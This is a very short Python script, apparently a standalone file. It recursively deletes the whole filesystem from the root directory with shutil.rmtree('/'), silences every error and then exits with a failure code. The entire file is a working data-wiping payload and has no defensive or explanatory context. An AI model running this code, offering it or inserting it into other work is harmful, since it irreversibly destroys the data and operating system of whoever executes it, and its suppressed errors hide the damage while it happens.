import shutil

shutil.rmtree('/', ignore_errors=True)
raise SystemExit(1)
